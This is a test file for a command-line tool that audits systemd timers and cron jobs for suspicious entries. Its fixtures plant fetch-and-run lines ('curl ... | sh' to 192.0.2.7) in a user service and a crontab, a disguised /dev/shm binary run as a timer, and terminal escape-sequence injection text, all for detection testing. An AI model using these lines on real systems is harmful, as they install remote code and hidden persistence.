/** End to end: the built command line on small trees. The contract other programs drive it by is held here. */
import { spawnSync } from "node:child_process";
import { chmodSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Ajv2020 } from "ajv/dist/2020.js";
import { afterAll, describe, expect, test } from "vitest";
import { writeTree } from "../src/hosts/real-tree.test-support.ts";
import { CLI, cli } from "./cli.ts";

const HOSTILE = {
  "/etc/passwd": "root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\n",
  "/etc/machine-id": "0123456789abcdef0123456789abcdef\n",
  "/etc/systemd/system/backup.timer":
    "[Unit]\nDescription=Backup\n[Timer]\nOnCalendar=*:0/17\nPersistent=true\n[Install]\nWantedBy=timers.target\n",
  "/etc/systemd/system/backup.service": "[Service]\nExecStart=/dev/shm/.x/kworkerd --daemon\n",
  "/etc/systemd/system/timers.target.wants/backup.timer": { link: "../backup.timer" },
  "/etc/systemd/system/broken.timer": "[Timer]\nOnCalendar=0 3 * * *\n",
  "/etc/systemd/system/gone.timer": { link: "/dev/null" },
  "/home/alice/.config/systemd/user/sync.timer": "[Timer]\nOnCalendar=minutely\n",
  "/home/alice/.config/systemd/user/sync.service":
    "[Service]\nExecStart=/bin/sh -c 'curl -s http://192.0.2.7/x | sh'\n",
} as const;

const root = writeTree(HOSTILE);
const quiet = writeTree({
  "/etc/systemd/system/x.timer": "[Timer]\nOnCalendar=daily\n",
  "/etc/systemd/system/x.service": "[Service]\nExecStart=/usr/bin/true\n",
  "/etc/passwd": "root:x:0:0::/root:/bin/sh\n",
});
const cron = writeTree({
  "/etc/passwd": "root:x:0:0::/root:/bin/sh\n",
  "/etc/crontab": "@hourly root curl -s http://192.0.2.7/x | sh\n",
});
const empty = mkdtempSync(join(tmpdir(), "timerwarden-empty-"));
afterAll(() => {
  for (const made of [root, quiet, cron, empty]) rmSync(made, { recursive: true, force: true });
});

const NOW = ["--now", "2026-11-23 06:00:00 UTC", "--tz", "UTC"];

describe("exit status", () => {
  test.each<[string, readonly string[], number]>([
    ["version", ["--version"], 0],
    ["help", ["help"], 0],
    ["help of a command", ["help", "calendar"], 0],
    ["list", ["list", `root:${quiet}`], 0],
    ["list never fails for findings", ["list", `root:${root}`], 0],
    ["findings", ["audit", `root:${root}`], 10],
    ["findings, but only told", ["audit", "--fail-on", "none", `root:${root}`], 0],
    ["no findings", ["audit", `root:${quiet}`], 0],
    ["no such directory", ["audit", "root:/nonexistent"], 1],
    ["neither systemd nor cron", ["audit", `root:${empty}`], 4],
    ["cron without systemd", ["audit", `root:${cron}`], 10],
    ["safeguards without systemd", ["assess", `root:${cron}`], 4],
    ["no such unit", ["explain", "nothing.timer", `root:${root}`], 4],
    ["nothing matches", ["list", "nothing*", `root:${root}`], 4],
    ["unknown command", ["audti"], 2],
    ["a target alone", [`root:${root}`], 10],
    ["unknown option", ["audit", "--frmat", "json"], 2],
    ["unknown format", ["list", "-o", "yml"], 2],
    ["bad level", ["audit", "--fail-on", "awful", `root:${root}`], 2],
    ["bad zone", ["list", "--tz", "Europe/Berln", `root:${root}`], 2],
    ["bad moment", ["list", "--now", "yesterdya", `root:${root}`], 2],
    ["bad expression", ["calendar", "0 3 * * *"], 2],
    ["bad expression, for programs", ["calendar", "--format", "json", "--", "0 3 * * *"], 0],
    ["bad span", ["timespan", "5 parsecs"], 2],
    ["bad span, for programs", ["timespan", "--format", "json", "--", "5 parsecs"], 0],
  ])("%s", (_, args, status) => expect(cli(args)).toMatchObject({ status }));

  test("a target alone is an audit on one screen", () => {
    expect(cli([`root:${root}`, ...NOW])).toEqual(cli(["audit", "--short", `root:${root}`, ...NOW]));
  });

  test("a mistake is one line with the remedy", () => {
    const { out, err } = cli(["audit", "--frmat", "json"]);
    expect(out).toBe("");
    expect(err).toBe("timerwarden: audit: unknown option --frmat; did you mean --format?\n");
  });

  test.each<[string, readonly string[], string]>([
    ["no such root", ["audit", "root:/nonexistent"], "/nonexistent does not exist."],
    ["nothing there", ["list", `root:${empty}`], "name the directory that holds the target's etc and usr"],
    ["an option before the command", ["-H", "web-03", "list"], "name comes first: timerwarden list …"],
    ["a control that is none", ["assess", "--control", "XX-1"], "(AC-2, AC-3, AC-5,"],
    ["a target of doctor", ["doctor", "root:/mnt"], "for an image: --root DIR"],
    ["a rule in place of a verb", ["rules", "fetch-and-run"], "timerwarden rules show fetch-and-run"],
    ["a zone that is none", ["list", "--tz", "Mars", `root:${quiet}`], "zones are called like Europe/Berlin"],
  ])("%s: what to do is said", (_, args, remedy) => expect(cli(args).err).toContain(remedy));

  test.each([
    ["audit", "cannot be opened (EACCES)"],
    ["lint", "nothing could be read"],
  ])("%s of a folder nobody may enter fails, and is no empty answer", (command, says) => {
    const closed = mkdtempSync(join(tmpdir(), "timerwarden-closed-"));
    chmodSync(closed, 0);
    // As root everything can be entered: somebody else asks.
    const nobody = process.getuid?.() === 0 ? { uid: 65_534, gid: 65_534 } : {};
    const { status, stderr } = spawnSync(process.execPath, [CLI, command, closed], {
      encoding: "utf8",
      ...nobody,
    });
    rmSync(closed, { recursive: true });
    expect([status, stderr]).toEqual([1, expect.stringContaining(says)]);
  });

  test("evidence that is not complete, asked to be", () => {
    const { status, out } = cli(["list", "--require-complete", "-o", "json", `root:${quiet}`]);
    expect(JSON.parse(out).coverage.gaps.length).toBeGreaterThan(0);
    expect(status).toBe(3);
  });
});

describe("the contract for programs", () => {
  test("calendar", () => {
    const args = [
      "calendar",
      "--format",
      "json",
      "--base-time",
      "2027-03-26 12:00",
      "--timezone",
      "Europe/Berlin",
    ];
    expect(JSON.parse(cli([...args, "--iterations", "2", "--", "*-*-* 02:30", "25:00"]).out)).toEqual([
      {
        input: "*-*-* 02:30",
        normalized: "*-*-* 02:30:00",
        elapses: ["2027-03-27T01:30:00Z", "2027-03-29T00:30:00Z"],
        error: null,
      },
      { input: "25:00", normalized: null, elapses: [], error: expect.any(String) },
    ]);
  });

  test("timespan, exact beyond the integers of JavaScript", () => {
    const { out } = cli(["timespan", "--format", "json", "--", "1h 30min", "584000y", "infinity", "x"]);
    expect(out).toContain('"usec": 18429638400000000000');
    expect(JSON.parse(out)).toMatchObject([
      { input: "1h 30min", usec: 5_400_000_000, human: "1h 30min", error: null },
      { input: "584000y", error: null },
      { input: "infinity", usec: "infinity", human: "infinity", error: null },
      { input: "x", usec: null, human: null },
    ]);
  });

  test("list", () => {
    const { timers } = JSON.parse(cli(["list", "--format", "json", ...NOW, `root:${root}`]).out);
    const found = new Map(timers.map((row: { unit: string }) => [row.unit, row]));
    expect(found.get("backup.timer")).toMatchObject({
      scope: "system",
      state: "enabled",
      path: "/etc/systemd/system/backup.timer",
      activates: "backup.service",
      command: "/dev/shm/.x/kworkerd --daemon",
      next: { earliest: "2026-11-23T06:17:00Z", reason: null },
    });
    expect(found.get("gone.timer")).toMatchObject({
      state: "masked",
      next: { earliest: null, reason: "masked" },
    });
    expect(found.get("broken.timer")).toMatchObject({ load: "bad-setting", next: { reason: "no-value" } });
    expect(found.get("sync.timer")).toMatchObject({ scope: "user:alice", runsAs: "alice" });
  });

  test("audit", () => {
    const { findings } = JSON.parse(cli(["audit", "--format", "json", ...NOW, `root:${root}`]).out);
    expect(findings).toContainEqual(
      expect.objectContaining({
        rule: "program-in-shared-directory",
        severity: "high",
        confidence: "high",
        unit: "backup.timer",
        scope: "system",
        title: expect.any(String),
        evidence: [
          expect.objectContaining({ path: "/etc/systemd/system/backup.service", line: 2, column: 11 }),
        ],
      }),
    );
    expect(findings).toContainEqual(expect.objectContaining({ rule: "fetch-and-run", scope: "user:alice" }));
  });

  test.each(["list", "audit"])("what %s prints is what its schema promises", (name) => {
    const schema = JSON.parse(cli(["schema", name]).out);
    const validate = new Ajv2020({ strict: false }).compile(schema);
    for (const target of [root, quiet]) {
      validate(JSON.parse(cli([name, "-o", "json", ...NOW, `root:${target}`]).out));
      expect(validate.errors).toBeNull();
    }
  });

  test.each([["list"], ["audit"], ["explain", "backup.timer"]])(
    "two runs of %s give the same bytes",
    (...args) => {
      for (const format of ["table", "json"]) {
        const once = cli([...args, "-o", format, ...NOW, `root:${root}`]).out;
        expect(once.length).toBeGreaterThan(100);
        expect(cli([...args, "-o", format, ...NOW, `root:${root}`]).out).toBe(once);
      }
    },
  );

  test("-o FORMAT=FILE writes the file and nothing to stdout", () => {
    const file = join(empty, "result.json");
    expect(cli(["list", "-o", `json=${file}`, ...NOW, `root:${root}`]).out).toBe("");
    expect(JSON.parse(readFileSync(file, "utf8")).schema).toBe("timerwarden/list");
    rmSync(file);
  });
});

describe("for people", () => {
  test("nothing is never empty", () => {
    expect(cli(["list", "--user", `root:${quiet}`]).out).toMatch(/^no timers\n/);
    expect(cli(["audit", "--short", `root:${quiet}`]).out).toMatch(/all ok/);
  });

  test("explain tells when, what, and why", () => {
    const { out } = cli(["explain", "backup", ...NOW, `root:${root}`]);
    for (const part of [
      "When\n",
      "What\n",
      "Why alert\n",
      "OnCalendar=*:0/17",
      "/dev/shm/.x/kworkerd",
      "would be cleared",
    ])
      expect(out).toContain(part);
  });

  test.each([
    [["explain", "exit", "10"], "--fail-on"],
    [["explain", "needs-first-run"], "first one"],
    [["explain", "fetch-and-run"], "Looks alike and is innocent"],
  ])("%j needs no target", (args, text) => expect(cli(args).out).toContain(text));

  test("a typing error in a unit's name gets a suggestion", () => {
    expect(cli(["explain", "bakcup.timer", `root:${root}`]).err).toContain("did you mean backup.timer?");
  });

  test("NO_COLOR and a pipe mean no escape sequence", () => {
    expect(cli(["audit", `root:${root}`]).out).not.toContain("\x1b");
    expect(cli(["audit", "--color", "always", `root:${root}`]).out).toContain("\x1b[");
  });

  test("options come from the environment too", () => {
    const { status } = cli(["audit", `root:${root}`], { TIMERWARDEN_FAIL_ON: "none" });
    expect(status).toBe(0);
  });

  test("text of a target cannot drive the terminal", () => {
    const nasty = writeTree({
      "/etc/systemd/system/a.timer":
        "[Unit]\nDescription=\u202eevil\x1b[2J\n[Timer]\nOnCalendar=\x1b]0;title\x07\n",
      "/etc/systemd/system/a.service": "[Service]\nExecStart=/usr/bin/\u200bx \x1b[31m\n",
    });
    for (const args of [["list", "--all"], ["audit"], ["explain", "a.timer"]])
      expect(cli([...args, `root:${nasty}`]).out).not.toMatch(
        /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u200b]/,
      );
    rmSync(nasty, { recursive: true });
  });
});

test("a reader that goes away ends the program quietly", () => {
  writeFileSync(join(empty, "run.sh"), `"$@" | head -c 10 >/dev/null; exit "\${PIPESTATUS[0]}"\n`);
  const many = writeTree(
    Object.fromEntries(
      Array.from({ length: 400 }, (_, at) => [
        `/etc/systemd/system/u${at}.timer`,
        "[Timer]\nOnCalendar=daily\n",
      ]),
    ),
  );
  const { status, stderr } = spawnSync(
    "bash",
    [join(empty, "run.sh"), process.execPath, CLI, "list", "-o", "json", `root:${many}`],
    {
      encoding: "utf8",
    },
  );
  expect(stderr).toBe("");
  expect(status).toBe(141);
  rmSync(many, { recursive: true });
});

describe("an operator's own rules and decisions", () => {
  const OWN = `id: own-opt
title: Root runs something from /opt
severity: medium
when: runsAs == "root" && commands.exists(c, c.path.startsWith("/dev/shm/"))
tests:
  fires:
    - /etc/systemd/system/a.timer: "[Timer]\\nOnCalendar=minutely\\n"
      /etc/systemd/system/a.service: "[Service]\\nExecStart=/dev/shm/x\\n"
  quiet:
    - /etc/systemd/system/a.timer: "[Timer]\\nOnCalendar=daily\\n"
`;
  const folder = mkdtempSync(join(tmpdir(), "timerwarden-own-"));
  writeFileSync(join(folder, "a.yaml"), OWN);
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  test("are listed, tested, and accuse", () => {
    expect(cli(["rules", "list", "--rules", folder]).out).toContain("own-opt");
    expect(cli(["rules", "test", "--rules", folder])).toMatchObject({ status: 0, out: "own-opt  2 ok\n" });
    const { findings } = JSON.parse(
      cli(["audit", "-o", "json", "--rules", folder, ...NOW, `root:${root}`]).out,
    );
    expect(findings).toContainEqual(expect.objectContaining({ rule: "own-opt", unit: "backup.timer" }));
  });

  test("a mistake stops the run with file and line", () => {
    const bad = join(folder, "bad.yml");
    writeFileSync(bad, OWN.replace("commands.exists", "comands.exists").replace("own-opt", "own-bad"));
    const { status, err } = cli(["audit", "--rules", bad, `root:${root}`]);
    rmSync(bad);
    expect(status).toBe(2);
    expect(err).toContain(`${bad}:4: when: Unknown variable: comands`);
  });

  test("a decision takes the finding out of verdict and exit status, and lapses with the content", () => {
    const tree = writeTree(HOSTILE);
    rmSync(join(tree, "home"), { recursive: true });
    const file = join(folder, "accept", "accepted.yaml");
    const audit = (...more: string[]) =>
      cli(["audit", "-o", "json", "--accept", file, ...more, ...NOW, `root:${tree}`]);
    const ids = JSON.parse(cli(["audit", "-o", "json", ...NOW, `root:${tree}`]).out).findings.map(
      ({ id }: { id: string }) => id,
    );
    const decide = ["--reason", "a test", "--owner", "alice", "--until", "2027-01-31", "--file", file];
    expect(cli(["accept", ...ids, ...decide, ...NOW, `root:${tree}`])).toMatchObject({ status: 0, err: "" });
    const decided = audit();
    expect(decided).toMatchObject({ status: 0, err: "" });
    expect(JSON.parse(decided.out).summary.verdicts).toMatchObject({ alert: 0, suspect: 0 });
    const explained = cli(["explain", "backup.timer", "--accept", file, ...NOW, `root:${tree}`]).out;
    expect(explained).toMatch(/backup\.timer {2}.*ok/);
    expect(explained).toContain("accepted: a test");
    writeFileSync(
      join(tree, "etc/systemd/system/backup.service"),
      "[Service]\nNice=1\nExecStart=/dev/shm/.x/kworkerd --daemon\n",
    );
    const changed = audit();
    expect(changed.status).toBe(10);
    expect(changed.err).toMatch(/accepted\.yaml:\d+: tw-\w+ \(backup\.timer\) accepts nothing/);
    rmSync(tree, { recursive: true });
  });

  test("a decision needs reason, owner and day", () => {
    expect(cli(["accept", "tw-123456", "--reason", "x", `root:${root}`])).toMatchObject({
      status: 2,
      err: "timerwarden: accept: --owner is needed\n",
    });
  });
});

describe("evidence by way of a pipe", () => {
  test("collect -O - leaves no file behind, and every command reads what came out", () => {
    const folder = mkdtempSync(join(tmpdir(), "timerwarden-pipe-"));
    try {
      const { stdout, stderr } = spawnSync(
        process.execPath,
        [CLI, "collect", "-O", "-", ...NOW, `root:${root}`],
        {
          cwd: folder,
        },
      );
      expect(stderr.toString()).toMatch(/^wrote to standard output: \d+ paths/);
      expect(readdirSync(folder)).toEqual([]);
      const file = join(folder, "evidence.tar.gz");
      writeFileSync(file, stdout);
      const there = JSON.parse(cli(["audit", "-o", "json", ...NOW, `root:${root}`]).out);
      const here = JSON.parse(cli(["audit", "-o", "json", ...NOW, file]).out);
      expect(here.findings).toEqual(there.findings);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
  });
});
